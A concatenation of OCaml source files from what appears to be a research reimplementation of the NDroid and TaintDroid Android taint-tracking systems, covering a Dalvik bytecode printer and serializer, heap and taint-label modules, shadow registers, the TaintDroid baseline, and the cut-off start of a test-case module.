  | Ifz (c, a, t) -> Format.fprintf ppf "if-%sz v%d, @%d" (cmp_name c) a t
  | Goto t -> Format.fprintf ppf "goto @%d" t
  | New_instance (r, cls) -> Format.fprintf ppf "new-instance v%d, %s" r cls
  | New_array (d, n, ty) -> Format.fprintf ppf "new-array v%d, v%d, %s" d n ty
  | Array_length (d, a) -> Format.fprintf ppf "array-length v%d, v%d" d a
  | Aget (v, a, i) -> Format.fprintf ppf "aget v%d, v%d, v%d" v a i
  | Aput (v, a, i) -> Format.fprintf ppf "aput v%d, v%d, v%d" v a i
  | Iget (v, o, f) ->
    Format.fprintf ppf "iget v%d, v%d, %s->%s" v o f.f_class f.f_name
  | Iput (v, o, f) ->
    Format.fprintf ppf "iput v%d, v%d, %s->%s" v o f.f_class f.f_name
  | Sget (v, f) -> Format.fprintf ppf "sget v%d, %s->%s" v f.f_class f.f_name
  | Sput (v, f) -> Format.fprintf ppf "sput v%d, %s->%s" v f.f_class f.f_name
  | Invoke (k, m, regs) ->
    Format.fprintf ppf "invoke-%s {%a}, %s->%s" (kind_name k) pp_regs regs
      m.m_class m.m_name
  | Throw r -> Format.fprintf ppf "throw v%d" r
  | Check_cast (r, cls) -> Format.fprintf ppf "check-cast v%d, %s" r cls
  | Instance_of (d, r, cls) ->
    Format.fprintf ppf "instance-of v%d, v%d, %s" d r cls
  | Packed_switch (r, first, targets) ->
    Format.fprintf ppf "packed-switch v%d, first=%ld, %d targets" r first
      (Array.length targets)
  | Sparse_switch (r, entries) ->
    Format.fprintf ppf "sparse-switch v%d, %d entries" r (Array.length entries)

let to_string i = Format.asprintf "%a" pp i
