(** Object heap with a compacting (moving) garbage collector.

    Objects are identified by a stable integer id; each object also has a
    "direct pointer" — a pseudo-address in the Java-heap region of the
    address space — which {!compact} reassigns, simulating Dalvik's moving
    collector.  Since Android 4.0 native code must therefore use indirect
    references ([Jni.Indirect_ref]) rather than direct pointers (paper,
    Sec. II-A); a test moves the heap mid-flow and checks NDroid's taint,
    keyed by indirect reference, survives.

    Taint storage follows TaintDroid (paper, Sec. II-B): strings and arrays
    carry a single taint for their whole contents; instance fields carry one
    taint per field, interleaved with the values. *)

type kind =
  | String of string
  | Array of { elem_type : string; elems : Dvalue.t array }
  | Instance of { cls : string; values : Dvalue.t array; taints : Ndroid_taint.Taint.t array }

type obj = {
  id : int;
  mutable addr : int;  (** direct pointer; changes on {!compact} *)
  mutable kind : kind;
  mutable taint : Ndroid_taint.Taint.t;
      (** whole-object taint: the char-array taint for strings, the array
          taint for arrays, the reference taint otherwise *)
}

type t

val create : ?base:int -> unit -> t
(** [base] is the start of the direct-pointer region (default 0x41000000,
    matching the addresses in the paper's logs, e.g. [0x412a3320]). *)

val alloc_string : t -> string -> obj
val alloc_array : t -> string -> int -> obj
val alloc_instance : t -> string -> int -> obj
(** [alloc_instance h cls nfields] allocates with [nfields] value slots. *)

val get : t -> int -> obj
(** Fetch by id. @raise Not_found for a dangling id. *)

val find_by_addr : t -> int -> obj option
(** Reverse lookup from a direct pointer, as the DVM-hook engine does when a
    JNI function returns a real object address. *)

val string_value : t -> int -> string
(** Chars of a string object. @raise Invalid_argument on non-strings. *)

val set_string_value : t -> int -> string -> unit

val compact : t -> unit
(** Move every live object to a fresh direct address (round-robin between
    two semispace bases) and bump the heap epoch.  Ids are preserved. *)

val epoch : t -> int
(** Number of compactions so far. *)

val live_objects : t -> int

val allocations : t -> int
(** Total allocations since creation (CF-Bench MALLOCS accounting). *)

val iter : t -> (obj -> unit) -> unit
