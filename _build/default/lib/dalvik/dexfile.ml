exception Bad_dex of string

let magic = "dex\n042\x00"

let err fmt = Format.kasprintf (fun s -> raise (Bad_dex s)) fmt

(* ---- little-endian writer / reader with a string pool ---- *)

type writer = { buf : Buffer.t; pool : (string, int) Hashtbl.t; mutable strings : string list; mutable nstrings : int }

let put_u8 w v = Buffer.add_char w.buf (Char.chr (v land 0xFF))

let put_u32 w v =
  put_u8 w v;
  put_u8 w (v lsr 8);
  put_u8 w (v lsr 16);
  put_u8 w (v lsr 24)

let put_i32 w (v : int32) = put_u32 w (Int32.to_int v land 0xFFFFFFFF)

let put_u64 w (v : int64) =
  put_u32 w (Int64.to_int (Int64.logand v 0xFFFFFFFFL));
  put_u32 w (Int64.to_int (Int64.shift_right_logical v 32))

let intern w s =
  match Hashtbl.find_opt w.pool s with
  | Some i -> i
  | None ->
    let i = w.nstrings in
    Hashtbl.replace w.pool s i;
    w.strings <- s :: w.strings;
    w.nstrings <- i + 1;
    i

let put_str w s = put_u32 w (intern w s)

type reader = { src : string; mutable pos : int; mutable rpool : string array }

let need r n = if r.pos + n > String.length r.src then err "truncated at %d" r.pos

let get_u8 r =
  need r 1;
  let v = Char.code r.src.[r.pos] in
  r.pos <- r.pos + 1;
  v

let get_u32 r =
  let a = get_u8 r in
  let b = get_u8 r in
  let c = get_u8 r in
  let d = get_u8 r in
  a lor (b lsl 8) lor (c lsl 16) lor (d lsl 24)

let get_i32 r = Int32.of_int (get_u32 r)

let get_u64 r =
  let lo = Int64.of_int (get_u32 r) in
  let hi = Int64.of_int (get_u32 r) in
  Int64.logor lo (Int64.shift_left hi 32)

let get_str r =
  let i = get_u32 r in
  if i >= Array.length r.rpool then err "string index %d out of pool" i;
  r.rpool.(i)

let get_list r f =
  let n = get_u32 r in
  if n > 0x100000 then err "list length %d implausible" n;
  List.init n (fun _ -> f r)

(* ---- value encoding ---- *)

let put_value w = function
  | Dvalue.Null -> put_u8 w 0
  | Dvalue.Int v ->
    put_u8 w 1;
    put_i32 w v
  | Dvalue.Long v ->
    put_u8 w 2;
    put_u64 w v
  | Dvalue.Float f ->
    put_u8 w 3;
    put_u32 w (Int32.to_int (Int32.bits_of_float f) land 0xFFFFFFFF)
  | Dvalue.Double f ->
    put_u8 w 4;
    put_u64 w (Int64.bits_of_float f)
  | Dvalue.Obj _ -> err "object constants cannot be serialized"

let get_value r =
  match get_u8 r with
  | 0 -> Dvalue.Null
  | 1 -> Dvalue.Int (get_i32 r)
  | 2 -> Dvalue.Long (get_u64 r)
  | 3 -> Dvalue.Float (Int32.float_of_bits (get_i32 r))
  | 4 -> Dvalue.Double (Int64.float_of_bits (get_u64 r))
  | t -> err "bad value tag %d" t

(* ---- enum encodings ---- *)

let binop_code = function
  | Bytecode.Add -> 0
  | Bytecode.Sub -> 1
  | Bytecode.Mul -> 2
  | Bytecode.Div -> 3
  | Bytecode.Rem -> 4
  | Bytecode.And -> 5
  | Bytecode.Or -> 6
  | Bytecode.Xor -> 7
  | Bytecode.Shl -> 8
  | Bytecode.Shr -> 9
  | Bytecode.Ushr -> 10

let binop_of_code = function
  | 0 -> Bytecode.Add
  | 1 -> Bytecode.Sub
  | 2 -> Bytecode.Mul
  | 3 -> Bytecode.Div
  | 4 -> Bytecode.Rem
  | 5 -> Bytecode.And
  | 6 -> Bytecode.Or
  | 7 -> Bytecode.Xor
  | 8 -> Bytecode.Shl
  | 9 -> Bytecode.Shr
  | 10 -> Bytecode.Ushr
  | n -> err "bad binop %d" n

let unop_code = function
  | Bytecode.Neg -> 0
  | Bytecode.Not -> 1
  | Bytecode.Int_to_long -> 2
  | Bytecode.Int_to_float -> 3
  | Bytecode.Int_to_double -> 4
  | Bytecode.Long_to_int -> 5
  | Bytecode.Float_to_int -> 6
  | Bytecode.Double_to_int -> 7
  | Bytecode.Float_to_double -> 8
  | Bytecode.Double_to_float -> 9

let unop_of_code = function
  | 0 -> Bytecode.Neg
  | 1 -> Bytecode.Not
  | 2 -> Bytecode.Int_to_long
  | 3 -> Bytecode.Int_to_float
  | 4 -> Bytecode.Int_to_double
  | 5 -> Bytecode.Long_to_int
  | 6 -> Bytecode.Float_to_int
  | 7 -> Bytecode.Double_to_int
  | 8 -> Bytecode.Float_to_double
  | 9 -> Bytecode.Double_to_float
  | n -> err "bad unop %d" n

let cmp_code = function
  | Bytecode.Eq -> 0
  | Bytecode.Ne -> 1
  | Bytecode.Lt -> 2
  | Bytecode.Ge -> 3
  | Bytecode.Gt -> 4
  | Bytecode.Le -> 5

let cmp_of_code = function
  | 0 -> Bytecode.Eq
  | 1 -> Bytecode.Ne
  | 2 -> Bytecode.Lt
  | 3 -> Bytecode.Ge
  | 4 -> Bytecode.Gt
  | 5 -> Bytecode.Le
  | n -> err "bad cmp %d" n

let kind_code = function
  | Bytecode.Virtual -> 0
  | Bytecode.Static -> 1
  | Bytecode.Direct -> 2

let kind_of_code = function
  | 0 -> Bytecode.Virtual
  | 1 -> Bytecode.Static
  | 2 -> Bytecode.Direct
  | n -> err "bad invoke kind %d" n

(* ---- instruction encoding: one opcode byte + operands ---- *)

let put_fref w (f : Bytecode.field_ref) =
  put_str w f.Bytecode.f_class;
  put_str w f.Bytecode.f_name

let get_fref r =
  let f_class = get_str r in
  let f_name = get_str r in
  { Bytecode.f_class; f_name }

let put_insn w insn =
  let op = put_u8 w in
  let reg = put_u32 w in
  match insn with
  | Bytecode.Nop -> op 0
  | Bytecode.Const (d, v) ->
    op 1;
    reg d;
    put_value w v
  | Bytecode.Const_string (d, s) ->
    op 2;
    reg d;
    put_str w s
  | Bytecode.Move (d, s) ->
    op 3;
    reg d;
    reg s
  | Bytecode.Move_result d ->
    op 4;
    reg d
  | Bytecode.Move_exception d ->
    op 5;
    reg d
  | Bytecode.Return_void -> op 6
  | Bytecode.Return d ->
    op 7;
    reg d
  | Bytecode.Binop (o, d, a, b) ->
    op 8;
    put_u8 w (binop_code o);
    reg d;
    reg a;
    reg b
  | Bytecode.Binop_wide (o, d, a, b) ->
    op 9;
    put_u8 w (binop_code o);
    reg d;
    reg a;
    reg b
  | Bytecode.Binop_float (o, d, a, b) ->
    op 10;
    put_u8 w (binop_code o);
    reg d;
    reg a;
    reg b
  | Bytecode.Binop_double (o, d, a, b) ->
    op 11;
    put_u8 w (binop_code o);
    reg d;
    reg a;
    reg b
  | Bytecode.Binop_lit (o, d, a, lit) ->
    op 12;
    put_u8 w (binop_code o);
    reg d;
    reg a;
    put_i32 w lit
  | Bytecode.Unop (o, d, s) ->
    op 13;
    put_u8 w (unop_code o);
    reg d;
    reg s
  | Bytecode.Cmp_long (d, a, b) ->
    op 14;
    reg d;
    reg a;
    reg b
  | Bytecode.If (c, a, b, t) ->
    op 15;
    put_u8 w (cmp_code c);
    reg a;
    reg b;
    put_u32 w t
  | Bytecode.Ifz (c, a, t) ->
    op 16;
    put_u8 w (cmp_code c);
    reg a;
    put_u32 w t
  | Bytecode.Goto t ->
    op 17;
    put_u32 w t
  | Bytecode.New_instance (d, cls) ->
    op 18;
    reg d;
    put_str w cls
  | Bytecode.New_array (d, n, ty) ->
    op 19;
    reg d;
    reg n;
    put_str w ty
  | Bytecode.Array_length (d, a) ->
    op 20;
    reg d;
    reg a
  | Bytecode.Aget (v, a, i) ->
    op 21;
    reg v;
    reg a;
    reg i
  | Bytecode.Aput (v, a, i) ->
    op 22;
    reg v;
    reg a;
    reg i
  | Bytecode.Iget (v, o, f) ->
    op 23;
    reg v;
    reg o;
    put_fref w f
  | Bytecode.Iput (v, o, f) ->
    op 24;
    reg v;
    reg o;
    put_fref w f
  | Bytecode.Sget (v, f) ->
    op 25;
    reg v;
    put_fref w f
  | Bytecode.Sput (v, f) ->
    op 26;
    reg v;
    put_fref w f
  | Bytecode.Invoke (k, m, regs) ->
    op 27;
    put_u8 w (kind_code k);
    put_str w m.Bytecode.m_class;
    put_str w m.Bytecode.m_name;
    put_u32 w (List.length regs);
    List.iter reg regs
  | Bytecode.Throw d ->
    op 28;
    reg d
  | Bytecode.Check_cast (d, cls) ->
    op 29;
    reg d;
    put_str w cls
  | Bytecode.Instance_of (d, s, cls) ->
    op 30;
    reg d;
    reg s;
    put_str w cls
  | Bytecode.Packed_switch (d, first, targets) ->
    op 31;
    reg d;
    put_i32 w first;
    put_u32 w (Array.length targets);
    Array.iter (put_u32 w) targets
  | Bytecode.Sparse_switch (d, entries) ->
    op 32;
    reg d;
    put_u32 w (Array.length entries);
    Array.iter
      (fun (k, t) ->
        put_i32 w k;
        put_u32 w t)
      entries

let get_insn r =
  let reg () = get_u32 r in
  match get_u8 r with
  | 0 -> Bytecode.Nop
  | 1 ->
    let d = reg () in
    Bytecode.Const (d, get_value r)
  | 2 ->
    let d = reg () in
    Bytecode.Const_string (d, get_str r)
  | 3 ->
    let d = reg () in
    Bytecode.Move (d, reg ())
  | 4 -> Bytecode.Move_result (reg ())
  | 5 -> Bytecode.Move_exception (reg ())
  | 6 -> Bytecode.Return_void
  | 7 -> Bytecode.Return (reg ())
  | 8 ->
    let o = binop_of_code (get_u8 r) in
    let d = reg () in
    let a = reg () in
    Bytecode.Binop (o, d, a, reg ())
  | 9 ->
    let o = binop_of_code (get_u8 r) in
    let d = reg () in
    let a = reg () in
    Bytecode.Binop_wide (o, d, a, reg ())
  | 10 ->
    let o = binop_of_code (get_u8 r) in
    let d = reg () in
    let a = reg () in
    Bytecode.Binop_float (o, d, a, reg ())
  | 11 ->
    let o = binop_of_code (get_u8 r) in
    let d = reg () in
    let a = reg () in
    Bytecode.Binop_double (o, d, a, reg ())
  | 12 ->
    let o = binop_of_code (get_u8 r) in
    let d = reg () in
    let a = reg () in
    Bytecode.Binop_lit (o, d, a, get_i32 r)
  | 13 ->
    let o = unop_of_code (get_u8 r) in
    let d = reg () in
    Bytecode.Unop (o, d, reg ())
  | 14 ->
    let d = reg () in
    let a = reg () in
    Bytecode.Cmp_long (d, a, reg ())
  | 15 ->
    let c = cmp_of_code (get_u8 r) in
    let a = reg () in
    let b = reg () in
    Bytecode.If (c, a, b, get_u32 r)
  | 16 ->
    let c = cmp_of_code (get_u8 r) in
    let a = reg () in
    Bytecode.Ifz (c, a, get_u32 r)
  | 17 -> Bytecode.Goto (get_u32 r)
  | 18 ->
    let d = reg () in
    Bytecode.New_instance (d, get_str r)
  | 19 ->
    let d = reg () in
    let n = reg () in
    Bytecode.New_array (d, n, get_str r)
  | 20 ->
    let d = reg () in
    Bytecode.Array_length (d, reg ())
  | 21 ->
    let v = reg () in
    let a = reg () in
    Bytecode.Aget (v, a, reg ())
  | 22 ->
    let v = reg () in
    let a = reg () in
    Bytecode.Aput (v, a, reg ())
  | 23 ->
    let v = reg () in
    let o = reg () in
    Bytecode.Iget (v, o, get_fref r)
  | 24 ->
    let v = reg () in
    let o = reg () in
    Bytecode.Iput (v, o, get_fref r)
  | 25 ->
    let v = reg () in
    Bytecode.Sget (v, get_fref r)
  | 26 ->
    let v = reg () in
    Bytecode.Sput (v, get_fref r)
  | 27 ->
    let k = kind_of_code (get_u8 r) in
    let m_class = get_str r in
    let m_name = get_str r in
    let regs = get_list r (fun r -> get_u32 r) in
    Bytecode.Invoke (k, { Bytecode.m_class; m_name }, regs)
  | 28 -> Bytecode.Throw (reg ())
  | 29 ->
    let d = reg () in
    Bytecode.Check_cast (d, get_str r)
  | 30 ->
    let d = reg () in
    let s = reg () in
    Bytecode.Instance_of (d, s, get_str r)
  | 31 ->
    let d = reg () in
    let first = get_i32 r in
    let n = get_u32 r in
    if n > 0x10000 then err "switch too large";
    Bytecode.Packed_switch (d, first, Array.init n (fun _ -> get_u32 r))
  | 32 ->
    let d = reg () in
    let n = get_u32 r in
    if n > 0x10000 then err "switch too large";
    Bytecode.Sparse_switch
      (d, Array.init n (fun _ ->
              let k = get_i32 r in
              let t = get_u32 r in
              (k, t)))
  | op -> err "bad opcode %d" op

(* ---- methods / classes ---- *)

let put_method w (m : Classes.method_def) =
  put_str w m.Classes.m_class;
  put_str w m.Classes.m_name;
  put_str w m.Classes.m_shorty;
  put_u8 w (if m.Classes.m_static then 1 else 0);
  put_u32 w m.Classes.m_registers;
  match m.Classes.m_body with
  | Classes.Bytecode (code, handlers) ->
    put_u8 w 0;
    put_u32 w (Array.length code);
    Array.iter (put_insn w) code;
    put_u32 w (List.length handlers);
    List.iter
      (fun h ->
        put_u32 w h.Classes.try_start;
        put_u32 w h.Classes.try_end;
        put_u32 w h.Classes.handler_pc)
      handlers
  | Classes.Native symbol ->
    put_u8 w 1;
    put_str w symbol
  | Classes.Intrinsic key ->
    put_u8 w 2;
    put_str w key

let get_method r =
  let m_class = get_str r in
  let m_name = get_str r in
  let m_shorty = get_str r in
  let m_static = get_u8 r = 1 in
  let m_registers = get_u32 r in
  let m_body =
    match get_u8 r with
    | 0 ->
      let n = get_u32 r in
      if n > 0x100000 then err "method too large";
      let code = Array.init n (fun _ -> get_insn r) in
      let handlers =
        get_list r (fun r ->
            let try_start = get_u32 r in
            let try_end = get_u32 r in
            let handler_pc = get_u32 r in
            { Classes.try_start; try_end; handler_pc })
      in
      Classes.Bytecode (code, handlers)
    | 1 -> Classes.Native (get_str r)
    | 2 -> Classes.Intrinsic (get_str r)
    | t -> err "bad body tag %d" t
  in
  { Classes.m_class; m_name; m_shorty; m_static; m_registers; m_body }

let put_class w (c : Classes.class_def) =
  put_str w c.Classes.c_name;
  (match c.Classes.c_super with
   | None -> put_u8 w 0
   | Some s ->
     put_u8 w 1;
     put_str w s);
  put_u32 w (List.length c.Classes.c_fields);
  List.iter
    (fun f ->
      put_str w f.Classes.fd_name;
      put_u8 w (if f.Classes.fd_static then 1 else 0))
    c.Classes.c_fields;
  put_u32 w (List.length c.Classes.c_methods);
  List.iter (put_method w) c.Classes.c_methods

let get_class r =
  let c_name = get_str r in
  let c_super = match get_u8 r with 0 -> None | _ -> Some (get_str r) in
  let c_fields =
    get_list r (fun r ->
        let fd_name = get_str r in
        let fd_static = get_u8 r = 1 in
        { Classes.fd_name; fd_static })
  in
  let c_methods = get_list r get_method in
  { Classes.c_name; c_super; c_fields; c_methods }

(* ---- container: magic, string pool, class table ---- *)

let to_string classes =
  let w =
    { buf = Buffer.create 1024; pool = Hashtbl.create 64; strings = [];
      nstrings = 0 }
  in
  put_u32 w (List.length classes);
  List.iter (put_class w) classes;
  let body = Buffer.contents w.buf in
  let out = Buffer.create (Buffer.length w.buf + 256) in
  Buffer.add_string out magic;
  let pool = List.rev w.strings in
  let put_out_u32 v =
    Buffer.add_char out (Char.chr (v land 0xFF));
    Buffer.add_char out (Char.chr ((v lsr 8) land 0xFF));
    Buffer.add_char out (Char.chr ((v lsr 16) land 0xFF));
    Buffer.add_char out (Char.chr ((v lsr 24) land 0xFF))
  in
  put_out_u32 (List.length pool);
  List.iter
    (fun s ->
      put_out_u32 (String.length s);
      Buffer.add_string out s)
    pool;
  Buffer.add_string out body;
  Buffer.contents out

let of_string s =
  if String.length s < String.length magic
     || String.sub s 0 (String.length magic) <> magic
  then err "bad magic";
  let r = { src = s; pos = String.length magic; rpool = [||] } in
  let npool = get_u32 r in
  if npool > 0x100000 then err "pool size %d implausible" npool;
  r.rpool <-
    Array.init npool (fun _ ->
        let n = get_u32 r in
        if n > 0x100000 then err "pool string too large";
        need r n;
        let str = String.sub r.src r.pos n in
        r.pos <- r.pos + n;
        str);
  get_list r get_class
