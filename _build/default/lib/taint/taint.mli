(** Taint labels.

    TaintDroid represents taint as a 32-bit integer in which each bit stands
    for one category of sensitive information; combining taints is the union
    of the bit sets (paper, Sec. II-B).  NDroid re-uses the exact same format
    so that both systems can exchange tags ("let the taints added by NDroid
    follow TaintDroid's format", Sec. V-A).

    The predefined labels below use TaintDroid's published constants, which
    is why the values logged in the paper ([0x202] for contacts+SMS, [0x2]
    for contacts, [0x1602] for contacts+SMS+IMEI+ICCID) show up verbatim in
    our experiment output. *)

type t
(** A taint tag: a set of sensitive-information categories. *)

val clear : t
(** The empty tag ([TAINT_CLEAR] in TaintDroid). *)

val is_clear : t -> bool
(** [is_clear t] is [true] iff [t] carries no taint at all. *)

val is_tainted : t -> bool
(** [is_tainted t] is [not (is_clear t)]. *)

val union : t -> t -> t
(** [union a b] combines two tags; this is the "OR" operation used by every
    propagation rule in Table V. *)

val ( ||| ) : t -> t -> t
(** Infix alias for {!union}. *)

val inter : t -> t -> t
(** Set intersection; used by sink filters that watch specific categories. *)

val subset : t -> t -> bool
(** [subset a b] is [true] iff every category in [a] is also in [b]. *)

val equal : t -> t -> bool
val compare : t -> t -> int

val of_bits : int -> t
(** [of_bits n] makes a tag from a raw 32-bit value, e.g. from a log. *)

val to_bits : t -> int
(** Raw 32-bit value of the tag. *)

(** {1 TaintDroid's predefined categories} *)

(** The tags are, in bit order: [location] 0x1 (last known location),
    [contacts] 0x2 (address book), [mic] 0x4, [phone_number] 0x8,
    [location_gps] 0x10, [location_net] 0x20, [location_last] 0x40,
    [camera] 0x80, [accelerometer] 0x100, [sms] 0x200, [imei] 0x400,
    [imsi] 0x800, [iccid] 0x1000 (SIM card identifier), [device_sn] 0x2000,
    [account] 0x4000, [history] 0x8000. *)

val location : t

val contacts : t
val mic : t
val phone_number : t
val location_gps : t
val location_net : t
val location_last : t
val camera : t
val accelerometer : t
val sms : t
val imei : t
val imsi : t
val iccid : t
val device_sn : t
val account : t
val history : t

val all_labels : (string * t) list
(** Every predefined category with its name, in ascending bit order. *)

val categories : t -> string list
(** [categories t] names the categories present in [t]; unknown bits are
    rendered as ["bit<i>"]. *)

val pp : Format.formatter -> t -> unit
(** Prints as the hexadecimal tag value, e.g. [0x202]. *)

val pp_verbose : Format.formatter -> t -> unit
(** Prints as the tag value followed by category names,
    e.g. [0x202(contacts|sms)]. *)

val to_string : t -> string
(** [to_string t] is {!pp} rendered to a string. *)
