type t = Taint.t array

let create n = Array.make n Taint.clear
let size s = Array.length s

let check s i =
  if i < 0 || i >= Array.length s then
    invalid_arg (Printf.sprintf "Shadow_regs: register %d out of range" i)

let get s i =
  check s i;
  s.(i)

let set s i tag =
  check s i;
  s.(i) <- tag

let add s i tag =
  check s i;
  s.(i) <- Taint.union s.(i) tag

let clear_all s = Array.fill s 0 (Array.length s) Taint.clear
let any_tainted s = Array.exists Taint.is_tainted s
let snapshot s = Array.copy s

let restore s saved =
  if Array.length saved <> Array.length s then
    invalid_arg "Shadow_regs.restore: size mismatch";
  Array.blit saved 0 s 0 (Array.length s)
