type t = int

let clear = 0
let is_clear t = t = 0
let is_tainted t = t <> 0
let union a b = a lor b
let ( ||| ) = union
let inter a b = a land b
let subset a b = a land b = a
let equal (a : t) b = a = b
let compare (a : t) b = Stdlib.compare a b
let of_bits n = n land 0xFFFFFFFF
let to_bits t = t

let location = 0x1
let contacts = 0x2
let mic = 0x4
let phone_number = 0x8
let location_gps = 0x10
let location_net = 0x20
let location_last = 0x40
let camera = 0x80
let accelerometer = 0x100
let sms = 0x200
let imei = 0x400
let imsi = 0x800
let iccid = 0x1000
let device_sn = 0x2000
let account = 0x4000
let history = 0x8000

let all_labels =
  [ ("location", location);
    ("contacts", contacts);
    ("mic", mic);
    ("phone_number", phone_number);
    ("location_gps", location_gps);
    ("location_net", location_net);
    ("location_last", location_last);
    ("camera", camera);
    ("accelerometer", accelerometer);
    ("sms", sms);
    ("imei", imei);
    ("imsi", imsi);
    ("iccid", iccid);
    ("device_sn", device_sn);
    ("account", account);
    ("history", history) ]

let categories t =
  let named =
    List.filter_map
      (fun (name, bit) -> if t land bit <> 0 then Some name else None)
      all_labels
  in
  let known_mask = List.fold_left (fun acc (_, bit) -> acc lor bit) 0 all_labels in
  let rec unknown acc i =
    if i >= 32 then List.rev acc
    else
      let bit = 1 lsl i in
      if t land bit <> 0 && known_mask land bit = 0 then
        unknown (Printf.sprintf "bit%d" i :: acc) (i + 1)
      else unknown acc (i + 1)
  in
  named @ unknown [] 0

let pp ppf t = Format.fprintf ppf "0x%x" t

let pp_verbose ppf t =
  if is_clear t then Format.fprintf ppf "0x0(clear)"
  else Format.fprintf ppf "0x%x(%s)" t (String.concat "|" (categories t))

let to_string t = Format.asprintf "%a" pp t
