type t = (int, Taint.t) Hashtbl.t

let create () = Hashtbl.create 1024

let get m addr =
  match Hashtbl.find_opt m addr with Some t -> t | None -> Taint.clear

let set m addr tag =
  if Taint.is_clear tag then Hashtbl.remove m addr
  else Hashtbl.replace m addr tag

let add m addr tag =
  if Taint.is_tainted tag then set m addr (Taint.union (get m addr) tag)

let get_range m addr n =
  if Hashtbl.length m = 0 then Taint.clear
  else
    let rec loop acc i =
      if i >= n then acc else loop (Taint.union acc (get m (addr + i))) (i + 1)
    in
    loop Taint.clear 0

let set_range m addr n tag =
  for i = 0 to n - 1 do
    set m (addr + i) tag
  done

let add_range m addr n tag =
  if Taint.is_tainted tag then
    for i = 0 to n - 1 do
      add m (addr + i) tag
    done

let clear_range m addr n =
  if Hashtbl.length m > 0 then
    for i = 0 to n - 1 do
      Hashtbl.remove m (addr + i)
    done

let copy_range m ~src ~dst ~len =
  if Hashtbl.length m > 0 then begin
    (* Snapshot first so overlapping ranges behave like memmove. *)
    let snapshot = Array.init len (fun i -> get m (src + i)) in
    for i = 0 to len - 1 do
      set m (dst + i) snapshot.(i)
    done
  end

let tainted_bytes m = Hashtbl.length m
let iter m f = Hashtbl.iter f m
let reset m = Hashtbl.reset m
