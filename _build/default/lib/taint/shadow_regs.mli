(** Shadow registers.

    "NDroid maintains shadow registers to store the related registers'
    taints" (paper, Sec. V-E).  One taint tag per CPU register; register 15
    (PC) and 13 (SP) are tracked too, since LDM/STM rules in Table V involve
    the base register's taint. *)

type t

val create : int -> t
(** [create n] makes a bank of [n] shadow registers, all clear. *)

val size : t -> int

val get : t -> int -> Taint.t
(** [get s i] is the taint of register [i].  @raise Invalid_argument if [i]
    is out of range. *)

val set : t -> int -> Taint.t -> unit
(** Replace register [i]'s taint. *)

val add : t -> int -> Taint.t -> unit
(** Union a tag into register [i]'s taint. *)

val clear_all : t -> unit
(** Reset every register to {!Taint.clear}; done when entering a fresh
    native invocation so a previous call's taints cannot bleed through. *)

val any_tainted : t -> bool
(** [true] iff some register carries taint. *)

val snapshot : t -> Taint.t array
(** Copy of the current bank, for saving across nested calls. *)

val restore : t -> Taint.t array -> unit
(** Restore a bank saved with {!snapshot}.
    @raise Invalid_argument on size mismatch. *)
