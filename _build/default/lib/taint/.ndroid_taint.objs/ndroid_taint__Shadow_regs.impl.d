lib/taint/shadow_regs.ml: Array Printf Taint
