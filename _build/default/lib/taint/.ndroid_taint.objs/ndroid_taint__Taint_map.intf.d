lib/taint/taint_map.mli: Taint
