lib/taint/taint.mli: Format
