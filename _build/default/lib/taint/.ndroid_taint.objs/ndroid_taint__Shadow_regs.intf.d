lib/taint/shadow_regs.mli: Taint
