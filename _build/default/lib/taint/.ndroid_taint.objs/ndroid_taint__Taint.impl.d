lib/taint/taint.ml: Format List Printf Stdlib String
