lib/taint/taint_map.ml: Array Hashtbl Taint
