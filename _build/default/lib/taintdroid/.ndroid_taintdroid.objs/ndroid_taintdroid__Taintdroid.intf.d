lib/taintdroid/taintdroid.mli: Ndroid_runtime Ndroid_taint
