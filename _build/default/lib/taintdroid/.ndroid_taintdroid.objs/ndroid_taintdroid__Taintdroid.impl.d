lib/taintdroid/taintdroid.ml: Array Ndroid_dalvik Ndroid_runtime Ndroid_taint
