module Device = Ndroid_runtime.Device
module Vm = Ndroid_dalvik.Vm
module Taint = Ndroid_taint.Taint

type t = { device : Device.t }

let return_policy (jc : Device.jni_call) ~r0:_ ~r1:_ =
  Array.fold_left (fun acc (_, t) -> Taint.union acc t) Taint.clear jc.Device.jc_args

let attach device =
  (Device.vm device).Vm.track_taint <- true;
  Device.jni_return_policy device := return_policy;
  { device }

let detach t =
  (Device.vm t.device).Vm.track_taint <- true;
  Device.jni_return_policy t.device := (fun _ ~r0:_ ~r1:_ -> Taint.clear)

let vanilla device =
  (Device.vm device).Vm.track_taint <- false;
  (Device.vm device).Vm.on_bytecode <- None;
  (Device.vm device).Vm.on_invoke <- None;
  Device.jni_return_policy device := (fun _ ~r0:_ ~r1:_ -> Taint.clear);
  Device.native_taint_source device := (fun _ -> Taint.clear);
  Ndroid_runtime.Device.Machine.clear_listeners (Device.machine device)
