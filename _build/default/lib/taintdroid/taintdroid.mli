(** The TaintDroid baseline configuration.

    TaintDroid is built into the Dalvik interpreter (register, field, array
    and string taint tags — see {!Ndroid_dalvik.Interp}); this module merely
    switches it on and installs TaintDroid's one rule at the JNI boundary:
    "when a native method is called, TaintDroid adopts the taint propagation
    policy that the return value will be tainted if any parameter is
    tainted" (paper, Sec. II-B).

    What it deliberately does {e not} do is the point of the paper:
    - it never taints data a native method writes back through JNI
      callbacks, new objects, fields, or exceptions (cases 1', 3);
    - it has no native-context sinks (case 2) and no native-context sources
      (cases 3, 4). *)

type t

val attach : Ndroid_runtime.Device.t -> t
(** Enable DVM taint tracking and install the JNI return policy. *)

val detach : t -> unit
(** Restore the vanilla configuration. *)

val return_policy :
  Ndroid_runtime.Device.jni_call -> r0:int -> r1:int -> Ndroid_taint.Taint.t
(** The black-box rule itself, exported for NDroid to compose with. *)

val vanilla : Ndroid_runtime.Device.t -> unit
(** Force the vanilla configuration: taint tracking off, policies clear,
    no listeners (the Fig. 10 baseline). *)
