module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Dvalue = Ndroid_dalvik.Dvalue
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Cpu = Ndroid_arm.Cpu
module Layout = Ndroid_emulator.Layout

let telephony = "Landroid/telephony/TelephonyManager;"
let contacts = "Landroid/provider/ContactsProvider;"
let sms = "Landroid/provider/SmsProvider;"
let socket = "Ljava/net/Socket;"
let string_cls = "Ljava/lang/String;"

let mref cls name = { B.m_class = cls; B.m_name = name }

(* ---------------------------------------------------------------- case 1 *)

(* Thumb-mode native library: scramble(jstr) returns a new Java string made
   from the argument's chars. *)
let case1_lib extern =
  let open Asm in
  let items =
    [ Label "scramble";
      I (Insn.push [ Insn.r4; Insn.lr ]);
      (* save jstr (arg 0 = r2 for a static native method) *)
